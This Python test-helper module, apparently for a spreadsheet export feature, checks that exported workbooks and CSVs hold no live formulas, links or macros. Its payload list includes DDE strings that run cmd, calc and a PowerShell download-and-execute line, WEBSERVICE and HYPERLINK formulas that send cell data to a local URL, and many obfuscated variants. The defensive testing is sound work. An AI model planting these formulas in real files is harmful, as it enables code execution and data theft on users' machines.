"""Texts that want to be more than text, and a look into what became of them."""

import csv
import io
import re
import zipfile

import openpyxl

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=2+5+cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://127.0.0.1/?"&A1,"点此")', '=WEBSERVICE("http://127.0.0.1/"&B1)', '=IMPORTXML("http://127.0.0.1","//a")',
    '=IMAGE("http://127.0.0.1/x.png")', '=INDIRECT("A1")', "=IFERROR(1/0,1)", "={1,2}", "==1", "=-1", "=+1", "=@A1",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t\t=1", " =1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u2060=1+1", "\u202e=1+1", "\u2003=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u3000＝1+1", "'=1+1", "''=1+1",
    '"=1+1"', '"=1+1', 'a";=1+1;"', 'a",=1+1,"', "a;=1+1", "a; =1+1", "a\t=1+1", "a|=1+1", "a\n=1+1", "a\r\n=1+1", "a;'=1",
    "|calc", "%0A=1+1", "=1+1;=2+2", '="1"&"1"', "_x003D_1+1", "_x0041_", "{=1+1}", "=А1", "−1+1", "-", "=", "+8613800138000",
    "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "&#61;1+1", "]]>=1", "\x01=1+1", "\x1f=1",
]  # fmt: skip

FORMULA_STARTS = "=+-@＝＋－＠"
_UNSEEN = ' \u00a0\u3000\u200b\ufeff\u2060\u202e\u2003\x01\x1f"'
_ESCAPED = re.compile("_x([0-9A-Fa-f]{4})_")


def as_excel_shows(text):
    """A cell's text as Excel reads it: _xHHHH_ is a character."""
    return _ESCAPED.sub(lambda found: chr(int(found[1], 16)), text) if isinstance(text, str) else text


def opened(content):
    """The workbook, after asserting that no cell of it is a formula or of an unknown type."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in "snd", (cell.coordinate, cell.data_type)
                assert not isinstance(cell.value, str) or cell.data_type == "s"
    assert formulas_in(content) == []
    return book


def cells_of(content, sheet=0):
    """The rows of one sheet as Excel shows them."""
    page = opened(content).worksheets[sheet]
    return [[as_excel_shows(cell) for cell in row] for row in page.iter_rows(values_only=True)]


def formulas_in(content):
    """What stands in a workbook as a formula, an external link or a macro."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        found = [name for name in book.namelist() if re.search(r"externalLink|vbaProject|activeX|embeddings", name)]
        for name in book.namelist():
            if name.startswith("xl/worksheets/sheet"):
                found += re.findall(rb"<f[ >/].{0,80}|<hyperlink .{0,80}|<oleObject.{0,80}", book.read(name))
    return found


def starts_formula(text):
    """Whether a spreadsheet could take the text for a formula."""
    return text.lstrip(_UNSEEN + "\t\r\n")[:1] in tuple(FORMULA_STARTS) and not text.startswith("'")


def read_csv(content, delimiter=","):
    """The rows of a CSV as a spreadsheet with that list separator splits them."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))
